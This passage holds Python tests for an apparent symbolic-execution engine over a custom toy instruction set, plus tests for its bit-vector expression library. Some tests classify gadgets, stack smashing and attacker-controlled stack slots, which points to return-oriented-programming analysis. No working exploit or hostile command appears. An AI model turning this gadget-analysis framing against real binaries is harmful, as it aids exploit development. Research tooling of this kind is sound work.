    assert any("==" in str(c) for c in p.state.constraints)
    assert p.state.get(Reg.RDX) == stack_sym(8)


def test_dead_path_on_decode_failure():
    code = encode_program([Instruction(op=Op.POP_R, dst=Reg.RAX)]) + b"\xef\xef"
    paths = execute_paths(code, 0x400000, 0x400000)
    assert all(p.end is EndKind.DEAD for p in paths)


def test_max_insns_budget():
    source = "\n".join(["nop"] * 50) + "\nret"
    unit = assemble_unit(source, base_addr=0x400000)
    paths = execute_paths(unit.code, 0x400000, 0x400000, max_insns=10)
    assert all(p.end is EndKind.DEAD for p in paths)


def test_stack_smashed_flag():
    (path,) = paths_for("mov rsp, rax\nret")
    assert path.state.stack_smashed


def test_write_gadget_effect_recorded():
    (path,) = paths_for("mov [rdi+0], rsi\nret")
    writes = [w for w in path.state.mem_writes if w.stack_offset is None]
    assert len(writes) == 1
    assert writes[0].addr == reg_sym(Reg.RDI)
    assert writes[0].value == reg_sym(Reg.RSI)


def test_read_over_write_on_stack():
    (path,) = paths_for("push rax\npop rbx\nret")
    assert path.state.get(Reg.RBX) == reg_sym(Reg.RAX)


def test_leave_semantics():
    (path,) = paths_for("leave\nret")
    # rsp := rbp; rbp := [rbp]; ret target := [rbp+8]
    assert path.end is EndKind.RET
    syms = free_symbols(path.state.get(Reg.RBP))
    assert any(s.startswith("mem") for s in syms)


def test_controlled_symbols_classification():
    assert is_controlled_symbol("stk0")
    assert is_controlled_symbol("stk24")
    assert not is_controlled_symbol("stkm8")
    assert not is_controlled_symbol("rax0")
    assert not is_controlled_symbol("mem3")


def test_max_stack_offset_tracks_payload_length():
    (path,) = paths_for("pop rax\npop rbx\npop rcx\nret")
    assert path.state.max_stack_offset_read == 24  # ret read at offset 24


# ---------------------------------------------------------------------------
# Differential testing: symbolic semantics == concrete semantics
# ---------------------------------------------------------------------------

SAFE_REGS = [r for r in Reg if r not in (Reg.RSP,)]


def _random_straightline(rng, length):
    """A random sequence of straight-line instructions (no control flow,
    no wild memory) suitable for differential testing."""
    insns = []
    stack_depth = 0
    for _ in range(length):
        choice = rng.randrange(12)
        dst = rng.choice(SAFE_REGS)
        src = rng.choice(SAFE_REGS)
        if choice == 0:
            insns.append(Instruction(op=Op.MOV_RI, dst=dst, imm=rng.getrandbits(64)))
        elif choice == 1:
            insns.append(Instruction(op=Op.MOV_RR, dst=dst, src=src))
        elif choice == 2:
            op = rng.choice([Op.ADD_RR, Op.SUB_RR, Op.AND_RR, Op.OR_RR, Op.XOR_RR, Op.MUL_RR])
            insns.append(Instruction(op=op, dst=dst, src=src))
        elif choice == 3:
            op = rng.choice([Op.ADD_RI, Op.SUB_RI, Op.AND_RI, Op.OR_RI, Op.XOR_RI])
            insns.append(Instruction(op=op, dst=dst, imm=rng.randrange(-(1 << 20), 1 << 20)))
        elif choice == 4:
            op = rng.choice([Op.SHL_RI, Op.SHR_RI, Op.SAR_RI])
            insns.append(Instruction(op=op, dst=dst, imm=rng.randrange(64)))
        elif choice == 5:
            insns.append(Instruction(op=rng.choice([Op.NOT_R, Op.NEG_R, Op.INC_R, Op.DEC_R]), dst=dst))
        elif choice == 6:
            insns.append(Instruction(op=Op.XCHG, dst=dst, src=src))
        elif choice == 7:
            insns.append(Instruction(op=Op.PUSH_R, dst=dst))
            stack_depth += 1
        elif choice == 8 and stack_depth > 0:
            insns.append(Instruction(op=Op.POP_R, dst=dst))
            stack_depth -= 1
        elif choice == 9:
            insns.append(Instruction(op=Op.LEA, dst=dst, base=src, disp=rng.randrange(-64, 64)))
        elif choice == 10:
            # Aligned stack load within the pre-initialized window.
            disp = 8 * rng.randrange(8, 16)
            insns.append(Instruction(op=Op.LOAD, dst=dst, base=Reg.RSP, disp=disp))
        else:
            op = rng.choice([Op.CMP_RR, Op.TEST_RR])
            insns.append(Instruction(op=op, dst=dst, src=src))
    # Unwind any outstanding pushes so ret reads the sentinel slot area.
    for _ in range(stack_depth):
        insns.append(Instruction(op=Op.POP_R, dst=rng.choice(SAFE_REGS)))
    insns.append(Instruction(op=Op.RET))
    return insns


@settings(deadline=None, max_examples=60)
@given(seed=st.integers(min_value=0, max_value=10_000), length=st.integers(1, 14))
def test_property_symbolic_matches_concrete(seed, length):
    rng = random.Random(seed)
    insns = _random_straightline(rng, length)
    code = encode_program(insns)
    # hlt lands right after the code; ret jumps to it via the sentinel.
    hlt_addr = 0x400000 + len(code)
    code += bytes([int(Op.HLT)])

    image = make_image(code)
    emu = Emulator(image)
    init_regs = {r: rng.getrandbits(64) for r in SAFE_REGS}
    for r, v in init_regs.items():
        emu.cpu.set(r, v)
    rsp0 = emu.cpu.get(Reg.RSP)
    # Concrete payload on the stack: sentinel return address + random words.
    stack_words = {}
    emu.memory.write_u64(rsp0, hlt_addr)
    stack_words[0] = hlt_addr
    for k in range(1, 20):
        value = rng.getrandbits(64)
        emu.memory.write_u64(rsp0 + 8 * k, value)
        stack_words[8 * k] = value
    assert emu.run() == 0  # hlt exits with status 0

    (path,) = execute_paths(code, 0x400000, 0x400000, max_insns=64)
    assert path.end is EndKind.RET
    env = {f"{r}0": v for r, v in init_regs.items()}
    env["rsp0"] = rsp0
    for off, value in stack_words.items():
        env[f"stk{off}"] = value
    for r in SAFE_REGS:
        sym_val = eval_bv(path.state.get(r), env)
        assert sym_val == emu.cpu.get(r), f"{r} diverged on seed={seed}"
    assert eval_bv(path.state.get(Reg.RSP), env) == emu.cpu.get(Reg.RSP)
    assert eval_bv(path.jump_target, env) == hlt_addr
