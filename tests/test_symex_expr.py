"""Tests for the bit-vector expression language: folding, substitution,
evaluation, and property-based consistency with Python integer semantics."""

from hypothesis import given, strategies as st

from repro.symex.expr import (
    BVBin,
    BVBinOp,
    MASK64,
    TRUE,
    FALSE,
    CmpOp,
    bool_and,
    bool_not,
    bool_or,
    bv_add,
    bv_and,
    bv_const,
    bv_eq,
    bv_ite,
    bv_mul,
    bv_ne,
    bv_neg,
    bv_not,
    bv_or,
    bv_sar,
    bv_shl,
    bv_shr,
    bv_sub,
    bv_sym,
    bv_udiv,
    bv_umod,
    bv_xor,
    cmp,
    eval_bool,
    eval_bv,
    expr_size,
    free_symbols,
    substitute,
)

X = bv_sym("x")
Y = bv_sym("y")


def test_constant_folding_add():
    assert bv_add(bv_const(2), bv_const(3)) == bv_const(5)


def test_add_zero_identity():
    assert bv_add(X, bv_const(0)) is X
    assert bv_add(bv_const(0), X) is X


def test_add_chains_flatten():
    e = bv_add(bv_add(X, bv_const(8)), bv_const(8))
    assert e == bv_add(X, bv_const(16))


def test_sub_self_is_zero():
    assert bv_sub(X, X) == bv_const(0)


def test_sub_const_becomes_add():
    e = bv_sub(X, bv_const(8))
    assert isinstance(e, BVBin) and e.op == BVBinOp.ADD
    assert eval_bv(e, {"x": 10}) == 2


def test_xor_self_is_zero():
    assert bv_xor(X, X) == bv_const(0)


def test_and_identities():
    assert bv_and(X, bv_const(MASK64)) is X
    assert bv_and(X, bv_const(0)) == bv_const(0)


def test_or_identities():
    assert bv_or(X, bv_const(0)) is X
    assert bv_or(X, bv_const(MASK64)) == bv_const(MASK64)


def test_mul_identities():
    assert bv_mul(X, bv_const(1)) is X
    assert bv_mul(X, bv_const(0)) == bv_const(0)


def test_umod_power_of_two_becomes_and():
    e = bv_umod(X, bv_const(8))
    assert e == bv_and(X, bv_const(7))


def test_udiv_power_of_two_becomes_shift():
    e = bv_udiv(X, bv_const(16))
    assert e == bv_shr(X, 4)


def test_double_not_cancels():
    assert bv_not(bv_not(X)) is X
    assert bv_neg(bv_neg(X)) is X


def test_ite_folding():
    assert bv_ite(TRUE, X, Y) is X
    assert bv_ite(FALSE, X, Y) is Y
    assert bv_ite(bv_eq(X, Y), X, X) is X


def test_cmp_folding():
    assert bv_eq(bv_const(3), bv_const(3)) == TRUE
    assert bv_ne(bv_const(3), bv_const(3)) == FALSE
    assert bv_eq(X, X) == TRUE
    assert cmp(CmpOp.ULT, X, X) == FALSE


def test_signed_compare_folding():
    minus_one = bv_const(MASK64)
    assert cmp(CmpOp.SLT, minus_one, bv_const(1)) == TRUE
    assert cmp(CmpOp.ULT, minus_one, bv_const(1)) == FALSE


def test_bool_connectives():
    p = bv_eq(X, bv_const(1))
    assert bool_and(TRUE, p) == p
    assert bool_and(FALSE, p) == FALSE
    assert bool_or(TRUE, p) == TRUE
    assert bool_or(FALSE, p) == p
    assert bool_not(bool_not(p)) == p


def test_bool_and_flattens_and_dedups():
    p = bv_eq(X, bv_const(1))
    q = bv_eq(Y, bv_const(2))
    e = bool_and(bool_and(p, q), p)
    assert e == bool_and(p, q)


def test_not_cmp_negates_operator():
    e = bool_not(bv_eq(X, Y))
    assert e == bv_ne(X, Y)


def test_free_symbols():
    e = bv_add(X, bv_mul(Y, bv_const(3)))
    assert free_symbols(e) == {"x", "y"}


def test_expr_size():
    assert expr_size(X) == 1
    assert expr_size(bv_add(X, Y)) == 3


def test_substitute_triggers_folding():
    e = bv_add(X, Y)
    out = substitute(e, {"x": bv_const(1), "y": bv_const(2)})
    assert out == bv_const(3)


def test_substitute_bool():
    e = bv_eq(bv_add(X, bv_const(1)), bv_const(3))
    assert substitute(e, {"x": bv_const(2)}) == TRUE


def test_eval_with_env():
    e = bv_sub(bv_mul(X, bv_const(3)), Y)
    assert eval_bv(e, {"x": 5, "y": 5}) == 10


U64 = st.integers(min_value=0, max_value=MASK64)


@given(a=U64, b=U64)
def test_property_fold_matches_python(a, b):
    ca, cb = bv_const(a), bv_const(b)
    assert eval_bv(bv_add(ca, cb), {}) == (a + b) & MASK64
    assert eval_bv(bv_sub(ca, cb), {}) == (a - b) & MASK64
    assert eval_bv(bv_mul(ca, cb), {}) == (a * b) & MASK64
    assert eval_bv(bv_and(ca, cb), {}) == a & b
    assert eval_bv(bv_or(ca, cb), {}) == a | b
    assert eval_bv(bv_xor(ca, cb), {}) == a ^ b
    if b:
        assert eval_bv(bv_udiv(ca, cb), {}) == a // b
        assert eval_bv(bv_umod(ca, cb), {}) == a % b


@given(a=U64, k=st.integers(min_value=0, max_value=63))
def test_property_shifts_match_python(a, k):
    ca = bv_const(a)
    assert eval_bv(bv_shl(ca, k), {}) == (a << k) & MASK64
    assert eval_bv(bv_shr(ca, k), {}) == a >> k
    signed = a - (1 << 64) if a >> 63 else a
    assert eval_bv(bv_sar(ca, k), {}) == (signed >> k) & MASK64


@given(a=U64, b=U64, x=U64)
def test_property_substitution_commutes_with_eval(a, b, x):
    """eval(subst(e)) == eval(e) for any binding of the same values."""
    e = bv_add(bv_xor(X, bv_const(a)), bv_mul(Y, bv_const(b)))
    env = {"x": x, "y": a}
    direct = eval_bv(e, env)
    substituted = substitute(e, {"x": bv_const(x), "y": bv_const(a)})
    assert eval_bv(substituted, {}) == direct


@given(x=U64, y=U64)
def test_property_simplifications_sound(x, y):
    """Smart-constructor rewrites never change the value."""
    env = {"x": x, "y": y}
    pairs = [
        (bv_umod(X, bv_const(8)), x % 8),
        (bv_udiv(X, bv_const(16)), x // 16),
        (bv_sub(X, bv_const(5)), (x - 5) & MASK64),
        (bv_add(bv_add(X, bv_const(7)), bv_const(9)), (x + 16) & MASK64),
        (bv_not(bv_not(X)), x),
    ]
    for expr, expected in pairs:
        assert eval_bv(expr, env) == expected


@given(x=U64, y=U64)
def test_property_compare_semantics(x, y):
    env = {"x": x, "y": y}
    sx = x - (1 << 64) if x >> 63 else x
    sy = y - (1 << 64) if y >> 63 else y
    assert eval_bool(cmp(CmpOp.ULT, X, Y), env) == (x < y)
    assert eval_bool(cmp(CmpOp.SLT, X, Y), env) == (sx < sy)
    assert eval_bool(cmp(CmpOp.SLE, X, Y), env) == (sx <= sy)
    assert eval_bool(bool_not(cmp(CmpOp.EQ, X, Y)), env) == (x != y)
